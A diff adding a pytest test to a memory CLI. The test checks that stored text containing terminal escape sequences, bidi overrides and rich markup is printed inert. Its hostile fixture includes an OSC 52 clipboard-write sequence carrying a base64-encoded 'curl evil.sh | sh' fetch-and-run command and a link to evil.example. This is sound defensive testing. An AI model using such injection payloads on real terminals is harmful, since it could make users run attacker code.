@@ -372,3 +372,28 @@ def test_forget_by_filter_on_a_terminal_confirms(cli, env, monkeypatch):
     assert "Purge (delete for good) 3 memories tagged 'demo'?" in accepted.stderr
     assert len(accepted.json()["forgotten"]) == 3  # stdout holds the one JSON document, nothing else
     assert ids["demo1"] not in _live_ids(cli)
+
+
+def test_list_show_search_and_json_print_no_escape_sequence_and_no_markup(cli):
+    """A memory that writes the clipboard (OSC 52), makes a link (OSC 8 and rich markup), clears the screen
+    (CSI, 7-bit and C1) or reorders text (bidi): printed as text, never run."""
+    import json
+    import re
+
+    hostile = ("Deploy notes \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x9b2J \u202eevil\u202c "
+               "[link=https://evil.example]docs[/link] [bold red]urgent[/]")
+    memory_id = cli("remember", hostile, "--title", "\x1b]0;pwned\x07", "--json").json()["id"]
+    outputs = {args: cli(*args) for args in (("list",), ("show", memory_id), ("search", "deploy notes docs"),
+                                             ("list", "--json"), ("show", memory_id, "--json"), ("export",))}
+    for args, result in outputs.items():
+        assert result.code == 0, (args, result.stderr)
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", result.stdout), args
+        if "--json" in args or args == ("export",):
+            continue
+        # Markup would vanish. Tables fold long cells: compare without spaces and column rules.
+        squeezed = re.sub(r"[\s│┃]", "", result.stdout)
+        assert "[link=https://evil.example]docs[/link][boldred]urgent[/]" in squeezed, args
+    assert "␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=" in outputs[("show", memory_id)].stdout
+    # JSON keeps the text exactly, escaped.
+    assert json.loads(outputs[("show", memory_id, "--json")].stdout)["content"] == hostile
+    assert json.loads(outputs[("export",)].stdout)["content"] == hostile
